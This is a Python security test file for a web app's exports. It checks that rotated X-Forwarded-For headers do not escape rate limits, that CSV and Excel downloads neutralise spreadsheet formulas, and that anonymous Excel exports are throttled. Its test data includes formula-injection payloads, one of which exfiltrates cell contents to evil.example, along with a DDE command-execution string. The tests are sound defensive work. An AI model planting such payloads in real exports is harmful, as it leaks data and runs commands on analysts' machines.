"""Findings 9 and 10 (exports) — rate limits and spreadsheets.

Attacks: rotate ``X-Forwarded-For`` to get a fresh rate-limit bucket per request; store a title
``=HYPERLINK(…)`` and wait for an analyst to open the CSV or Excel download; ask anonymously for Excel exports
in a loop (17 s of CPU each for the events view).
Must not happen: a rotated header escapes the limit (unless it comes from a configured proxy); a download cell
that a spreadsheet runs as a formula; unthrottled anonymous heavy exports."""

from __future__ import annotations

import io

import httpx
from openpyxl import load_workbook

from tests.conftest import run_cli
from tests.security.conftest import add_event
from tests.web.conftest import make_client

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_rotating_forwarded_for_does_not_escape_the_rate_limit(serve) -> None:
    server = serve({"POLICYSCOPE_SEARCH_RATE": "0.5", "POLICYSCOPE_SEARCH_BURST": "3"})
    codes = [httpx.get(server.url + "/api/v1/search", params={"q": "semiconductor"},
                       headers={"X-Forwarded-For": f"203.0.113.{i}", "Forwarded": f"for=198.51.100.{i}"},
                       timeout=30).status_code for i in range(8)]
    assert 429 in codes, codes


def test_forwarded_for_counts_only_from_a_configured_proxy() -> None:
    from policyscope.web.security import forwarded_client, parse_networks

    scope = {"client": ("10.0.0.5", 1234), "headers": [(b"x-forwarded-for", b"6.6.6.6, 198.51.100.7")]}
    assert forwarded_client(scope, []) == ("10.0.0.5", 1234)  # default: nobody is trusted
    assert forwarded_client(scope, parse_networks(["192.168.0.0/16"])) == ("10.0.0.5", 1234)
    # behind our proxy: the right-most hop it added is the client; what the client wrote (6.6.6.6) is ignored
    assert forwarded_client(scope, parse_networks(["10.0.0.0/8"])) == ("198.51.100.7", 0)
    chain = {"client": ("10.0.0.5", 1), "headers": [(b"x-forwarded-for", b"6.6.6.6, 198.51.100.7, 10.0.0.9")]}
    assert forwarded_client(chain, parse_networks(["10.0.0.0/8"])) == ("198.51.100.7", 0)
    junk = {"client": ("10.0.0.5", 1), "headers": [(b"x-forwarded-for", b"not-an-ip")]}
    assert forwarded_client(junk, parse_networks(["10.0.0.0/8"])) == ("10.0.0.5", 1)


def test_downloads_never_carry_a_live_formula(web_copy) -> None:
    db, _ = web_copy
    for i, f in enumerate(FORMULAS):
        add_event(db, f"ev_formula_{i}", f, issuer=f, jurisdiction="DNK")
    with make_client(db) as c:
        csv = c.get("/api/v1/events", params={"jurisdiction": "DNK", "format": "csv", "review_state": "all"}).text
        rows = _csv_rows(csv)
        titles = {r[rows[0].index("title")] for r in rows[1:]}
        for f in FORMULAS:
            assert "'" + f in titles, repr(f)
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r)
        for url in ("/api/v1/events", "/api/v1/export/events"):
            x = c.get(url, params={"jurisdiction": "DNK", "format": "xlsx", "review_state": "all"})
            ws = load_workbook(io.BytesIO(x.content)).active
            cells = [cell for row in ws.iter_rows() for cell in row]
            assert not [cell.coordinate for cell in cells if cell.data_type == "f"], url
            assert any(str(cell.value).startswith("'=HYPERLINK") for cell in cells), url
    r = run_cli("review", "list", "--state", "all", "--format", "csv", "--jurisdiction", "DNK", db=db)
    assert r.returncode == 0, r.stderr
    rows = _csv_rows(r.stdout)
    assert "'" + FORMULAS[0] in {r[rows[0].index("title")] for r in rows[1:]}
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r)


def _csv_rows(text: str) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(text, newline="")))


def test_anonymous_excel_exports_are_throttled(web_copy) -> None:
    db, info = web_copy
    with make_client(db, export_rate=0.1, export_burst=10) as c:
        codes = [c.get("/api/v1/export/jurisdictions", params={"format": "xlsx"}).status_code for _ in range(6)]
        assert codes[:3] == [200, 200, 200] and 429 in codes, codes
        r = c.get("/api/v1/export/jurisdictions", params={"format": "xlsx"})
        assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1
        # a signed-in reader (here an API token) is not throttled by the anonymous bucket
        ok = c.get("/api/v1/export/jurisdictions", params={"format": "xlsx"},
                   headers={"Authorization": f"Bearer {info['viewer_token']}"})
        assert ok.status_code == 200
